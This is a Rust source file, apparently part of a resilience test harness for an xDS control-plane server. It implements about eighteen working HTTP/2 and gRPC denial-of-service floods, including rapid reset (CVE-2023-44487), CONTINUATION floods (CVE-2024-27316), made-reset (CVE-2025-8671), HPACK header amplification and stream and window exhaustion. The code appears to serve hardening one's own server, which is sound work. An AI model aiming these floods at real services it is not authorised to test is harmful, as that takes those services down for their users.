//! Floods of HTTP/2 frames by unauthenticated clients on both xDS ports.

use std::sync::Arc;
use std::time::Duration;

use anyhow::{Result, bail};
use futures::FutureExt;
use pilotfish_proto::ResourceType;

use super::crowd;
use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, Ears, FIRST_OF_TABLE, HEADER_TABLE_SIZE, HEADERS,
    INITIAL_WINDOW_SIZE, PING, PRIORITY, RST_STREAM, Raw, UNKNOWN, WINDOW_UPDATE, frame, grpc_headers,
    header, indexed, open, settings,
};
use crate::dialer::{DELTA, Dialer};
use crate::wire::{Node, delta, incomplete};
use crate::{Attack, Counts, Deadline, Tally, Target};

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "http2-pings",
        what: "PING frames, and answers to none, without end",
        run: |target, deadline| flood(target, deadline, Flood::of(pings)).boxed(),
    },
    Attack {
        name: "http2-settings",
        what: "SETTINGS frames without end, each of which changes the window of 900 streams",
        run: |target, deadline| flood(target, deadline, Flood::of(changing_settings)).boxed(),
    },
    Attack {
        name: "http2-window-updates",
        what: "WINDOW_UPDATE frames of one byte without end",
        run: |target, deadline| flood(target, deadline, Flood::of(window_updates)).boxed(),
    },
    Attack {
        name: "http2-empty-data",
        what: "DATA frames without data, and with one byte of a message that never ends",
        run: |target, deadline| flood(target, deadline, Flood::of(empty_data)).boxed(),
    },
    Attack {
        name: "http2-continuation",
        what: "Headers that never end, in empty CONTINUATION frames and in full ones (CVE-2024-27316)",
        run: |target, deadline| flood(target, deadline, Flood::of(continuation)).boxed(),
    },
    Attack {
        name: "http2-priority-and-unknown",
        what: "PRIORITY frames, and frames of a type that does not exist",
        run: |target, deadline| flood(target, deadline, Flood::of(priorities)).boxed(),
    },
    Attack {
        name: "http2-rapid-reset",
        what: "Streams that are opened and reset in one write (CVE-2023-44487)",
        run: |target, deadline| flood(target, deadline, Flood::of(rapid_reset)).boxed(),
    },
    Attack {
        name: "http2-late-reset",
        what: "Streams that are opened, and reset when the server has begun to serve them",
        run: |target, deadline| {
            flood(target, deadline, Flood { rest: SERVED, ..Flood::of(late_reset) }).boxed()
        },
    },
    Attack {
        name: "http2-made-reset",
        what: "Streams that make the server reset them (CVE-2025-8671)",
        run: |target, deadline| {
            flood(target, deadline, Flood { rest: SERVED, ..Flood::of(made_reset) }).boxed()
        },
    },
    Attack {
        name: "http2-streams",
        what: "As many streams as a connection may have, of which none ever says anything",
        run: |target, deadline| flood(target, deadline, Flood { rest: SERVED, ..Flood::of(streams) }).boxed(),
    },
    Attack {
        name: "http2-headers",
        what: "Streams with 27 KiB of headers that are 7 bytes on the wire (HPACK)",
        run: |target, deadline| flood(target, deadline, Flood { rest: SERVED, ..Flood::of(headers) }).boxed(),
    },
    Attack {
        name: "http2-too-many-headers",
        what: "The same beyond the limit of headers, and tables that change their size",
        run: |target, deadline| {
            flood(target, deadline, Flood { rest: SERVED, ..Flood::of(too_many_headers) }).boxed()
        },
    },
    Attack {
        name: "http2-no-window",
        what: "Streams that ask for everything again and again, with a window of nothing",
        run: |target, deadline| {
            let with = &[(INITIAL_WINDOW_SIZE, 0)];
            flood(target, deadline, Flood { with, rest: SERVED, ..Flood::of(asking) }).boxed()
        },
    },
    Attack {
        name: "http2-deaf",
        what: "Streams that ask for everything, refused calls and pings, on connections that nobody reads",
        run: |target, deadline| {
            flood(target, deadline, Flood { ears: Ears::Shut, ..Flood::of(unread) }).boxed()
        },
    },
    Attack {
        name: "http2-registration",
        what: "These floods on the registration port, another one on each connection",
        run: |target, deadline| registration(target, deadline).boxed(),
    },
    Attack {
        name: "grpc-prefixes",
        what: "Messages that are compressed, longer than allowed, or never come",
        run: |target, deadline| {
            flood(target, deadline, Flood { rest: SERVED, ..Flood::of(prefixes) }).boxed()
        },
    },
    Attack {
        name: "grpc-calls",
        what: "Watches of health and calls of reflection, as many as a connection may have, that never end",
        run: |target, deadline| {
            flood(target, deadline, Flood { size: 400, rest: HELD, ..Flood::of(calls) }).boxed()
        },
    },
];

/// Number of attackers; every other one uses the TLS port.
const SIZE: usize = 32;
/// Number of frames or streams in one write.
const MANY: u32 = 1_000;
const FEW: u32 = 90;
/// Long enough for a server to process the frames.
const SERVED: Duration = Duration::from_millis(5);
const HELD: Duration = Duration::from_millis(500);

/// Bytes of one round, and their number of frames.
type Round = (Vec<u8>, usize);

/// Traffic of an attacker.
#[derive(Clone, Copy)]
struct Flood {
    size: usize,
    with: &'static [(u16, u32)],
    ears: Ears,
    round: fn(u32) -> Round,
    /// Pause between two rounds.
    rest: Duration,
}

impl Flood {
    fn of(round: fn(u32) -> Round) -> Self {
        Self { size: SIZE, with: &[], ears: Ears::Open, round, rest: Duration::ZERO }
    }
}

async fn flood(target: Arc<Target>, deadline: Deadline, flood: Flood) -> Result<Tally> {
    let counts = Counts::new();
    let (plain, secret) = (Dialer::plaintext(&target), Dialer::nameless(&target)?);
    let shared = counts.clone();
    crowd(flood.size, deadline, &counts, move |index| {
        let (counts, dialer) = (shared.clone(), if index % 2 == 0 { plain.clone() } else { secret.clone() });
        async move {
            let mut raw = Raw::connect(&dialer, flood.with, flood.ears, &counts).await?;
            for number in 0.. {
                let (bytes, frames) = (flood.round)(number);
                raw.send(&bytes, frames).await?;
                if raw.is_over() {
                    bail!("closed by the server");
                }
                tokio::time::sleep(flood.rest).await;
            }
            Ok(())
        }
    })
    .await;
    Ok(counts.tally())
}

/// Rounds for the registration port, which do not depend on its services.
const OF_REGISTRATION: [fn(u32) -> Round; 8] =
    [pings, changing_settings, window_updates, empty_data, continuation, priorities, rapid_reset, streams];

async fn registration(target: Arc<Target>, deadline: Deadline) -> Result<Tally> {
    let Some(address) = target.registration else {
        return Ok(Tally::skipped("there is no registration API"));
    };
    let (counts, dialer) = (Counts::new(), Dialer::at(address).from(66));
    let shared = counts.clone();
    crowd(SIZE, deadline, &counts, move |index| {
        let (counts, dialer) = (shared.clone(), dialer.clone());
        let round = OF_REGISTRATION.get(index % OF_REGISTRATION.len()).copied().unwrap_or(pings);
        async move {
            let mut raw = Raw::connect(&dialer, &[], Ears::Open, &counts).await?;
            for number in 0.. {
                let (bytes, frames) = round(number);
                raw.send(&bytes, frames).await?;
                if raw.is_over() {
                    bail!("closed by the server");
                }
                tokio::time::sleep(SERVED).await;
            }
            Ok(())
        }
    })
    .await;
    Ok(counts.tally())
}

fn many(count: u32, each: impl Fn(u32) -> Vec<u8>) -> Round {
    let frames: Vec<_> = (0..count).map(each).collect();
    (frames.concat(), frames.len())
}

/// Number of a stream in a round, counted from zero.
fn stream(round: u32, number: u32) -> u32 {
    2 * (round * FEW + number) + 1
}

/// Opens a stream in the first round; frames of later rounds belong to it.
fn with_stream(round: u32, mut then: Round) -> Round {
    if round == 0 {
        then.0.splice(0..0, open(1, DELTA, &[]));
        then.1 += 1;
    }
    then
}

fn pings(_: u32) -> Round {
    many(MANY, |number| frame(PING, u8::from(number % 2 == 0), 0, b"attacked"))
}

fn changing_settings(round: u32) -> Round {
    // Ten rounds open streams; then windows change.
    match round {
        0..10 => many(FEW, |number| open(stream(round, number), DELTA, &[])),
        _ => many(MANY, |number| {
            settings(&[(INITIAL_WINDOW_SIZE, 1_000 + number % 2), (HEADER_TABLE_SIZE, number)])
        }),
    }
}

fn window_updates(round: u32) -> Round {
    with_stream(round, many(MANY, |number| frame(WINDOW_UPDATE, 0, number % 2, &1_u32.to_be_bytes())))
}

fn empty_data(round: u32) -> Round {
    let begun = (round == 0).then(|| frame(DATA, 0, 1, &incomplete(1 << 20, 0)));
    let data = |number: u32| frame(DATA, 0, 1, if number.is_multiple_of(4) { b"x" } else { b"" });
    let (mut bytes, frames) = many(MANY, data);
    bytes.splice(0..0, begun.into_iter().flatten());
    with_stream(round, (bytes, frames))
}

fn continuation(round: u32) -> Round {
    let begin = frame(HEADERS, 0, 1, &grpc_headers(DELTA));
    let more = many(100, |number| {
        let piece = header("x-more", &[b'a'; 1_000]).repeat(16);
        frame(CONTINUATION, 0, 1, if number % 2 == 0 { &[] } else { &piece })
    });
    if round == 0 { ([begin, more.0].concat(), more.1 + 1) } else { more }
}

fn priorities(_: u32) -> Round {
    many(MANY, |number| match number % 2 {
        0 => frame(PRIORITY, 0, 2 * number + 1, &[0, 0, 0, 0, 9]),
        _ => frame(UNKNOWN, 0xff, number, &[7; 20]),
    })
}

fn reset(stream: u32) -> Vec<u8> {
    frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())
}

fn rapid_reset(round: u32) -> Round {
    let (bytes, frames) = many(FEW, |number| {
        let id = stream(round, number);
        [open(id, DELTA, &[]), reset(id)].concat()
    });
    (bytes, 2 * frames)
}

fn late_reset(round: u32) -> Round {
    match round % 2 {
        0 => many(FEW, |number| open(stream(round / 2, number), DELTA, &[])),
        _ => many(FEW, |number| reset(stream(round / 2, number))),
    }
}

fn made_reset(round: u32) -> Round {
    let (bytes, frames) = many(FEW, |number| {
        let id = stream(round, number);
        let fault = match number % 3 {
            // A zero window increment, an overflow, and data after the end.
            0 => frame(WINDOW_UPDATE, 0, id, &0_u32.to_be_bytes()),
            1 => frame(WINDOW_UPDATE, 0, id, &0x7fff_ffff_u32.to_be_bytes()),
            _ => [frame(DATA, END_STREAM, id, b""), frame(DATA, 0, id, b"late")].concat(),
        };
        [open(id, DELTA, &[]), fault].concat()
    });
    (bytes, 2 * frames)
}

fn streams(round: u32) -> Round {
    many(FEW, |number| open(stream(round, number), DELTA, &[]))
}

/// Nearly fills the table with one header, and refers to it that many times.
fn long(first: bool, times: usize) -> Vec<u8> {
    let entry = if first { indexed("x-long", &[b'a'; 3_900]) } else { vec![FIRST_OF_TABLE] };
    [entry, vec![FIRST_OF_TABLE; times - 1]].concat()
}

fn headers(round: u32) -> Round {
    many(FEW, |number| open(stream(round, number), DELTA, &long(round + number == 0, 7)))
}

fn too_many_headers(round: u32) -> Round {
    many(FEW, |number| {
        // The table is emptied and enlarged, then filled, and its header is referred to 200 times.
        let block = [vec![0x20, 0x3f, 0xe1, 0x1f], grpc_headers(DELTA), long(true, 200)].concat();
        frame(HEADERS, END_HEADERS, stream(round, number), &block)
    })
}

/// Encodes a gRPC message.
fn message(content: &[u8]) -> Vec<u8> {
    let length = u32::try_from(content.len()).unwrap_or(u32::MAX).to_be_bytes();
    [&[0], &length[..], content].concat()
}

/// Requests for all resources of each type.
fn everything(number: u32) -> Vec<u8> {
    let node = Node::numbered(number as usize);
    let types = [ResourceType::Cluster, ResourceType::Listener, ResourceType::Route];
    let ask = |(index, ty): (usize, ResourceType)| {
        message(&delta((index == 0).then_some(&node), ty.type_url(), &["*".to_owned()], &[]))
    };
    types.into_iter().enumerate().flat_map(ask).collect()
}

fn asking(round: u32) -> Round {
    match round {
        0..10 => many(FEW, |number| {
            let id = stream(round, number);
            [open(id, DELTA, &[]), frame(DATA, 0, id, &everything(id))].concat()
        }),
        _ => many(FEW, |number| {
            let again = message(&delta(None, ResourceType::Cluster.type_url(), &["*".to_owned()], &[]));
            frame(DATA, 0, stream(round % 10, number), &again)
        }),
    }
}

fn unread(round: u32) -> Round {
    many(FEW, |number| {
        let id = stream(round, number);
        match number % 3 {
            0 => [open(id, DELTA, &[]), frame(DATA, 0, id, &everything(id))].concat(),
            1 => open(id, "/no.such.Service/Method", &[]),
            _ => frame(PING, 0, 0, b"unheared"),
        }
    })
}

fn prefixes(round: u32) -> Round {
    many(FEW, |number| {
        let id = stream(round, number);
        let prefix: &[u8] = match number % 3 {
            0 => &[1, 0, 0, 0, 9],
            1 => &[0, 0xff, 0xff, 0xff, 0xff],
            _ => &[0, 0, 0x10, 0, 0],
        };
        [open(id, DELTA, &[]), frame(DATA, 0, id, prefix)].concat()
    })
}

fn calls(round: u32) -> Round {
    many(16, |number| {
        let id = stream(round, number);
        let watch =
            || [open(id, "/grpc.health.v1.Health/Watch", &[]), frame(DATA, END_STREAM, id, &message(&[]))];
        let reflect = || {
            let path = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
            let said = if number % 4 == 1 { 4_000 } else { 4 << 20 };
            [open(id, path, &[]), frame(DATA, 0, id, &incomplete(said, 3_900))]
        };
        if number % 2 == 0 { watch().concat() } else { reflect().concat() }
    })
}
